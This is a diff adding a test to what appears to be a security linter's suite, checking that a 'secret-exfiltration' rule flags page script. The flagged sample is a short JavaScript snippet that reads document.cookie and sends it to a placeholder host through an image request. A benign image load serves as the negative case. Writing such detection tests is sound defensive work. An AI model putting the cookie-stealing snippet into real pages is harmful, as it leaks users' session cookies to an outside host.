@@ -359,3 +359,18 @@ test('second review mends: a checked-off step, a replacement arrow after an orde
     1,
   );
 });
+
+test('a page script that puts the cookies into an image request sends them at once', () => {
+  const js = (lines: string[]) => hits({ 'snippets/p.js': `${lines.join('\n')}\n` }, 'sentinel/secret-exfiltration');
+  assert.deepEqual(
+    js([
+      "var endpoint = 'https://px.tools-cdn.invalid/p';",
+      'var c = document.cookie;',
+      'var img = new Image();',
+      "img.src = endpoint + '?d=' + encodeURIComponent(c);",
+    ]),
+    ['snippets/p.js:4:1 error'],
+  );
+  // (an image of the page's own, with nothing secret in it, is a picture; a comparison is no assignment)
+  assert.deepEqual(js(['var img = new Image();', "img.src = 'https://cdn.tools-cdn.invalid/logo.png?v=' + 3;", 'if (img.src == location.href) {}']), []);
+});
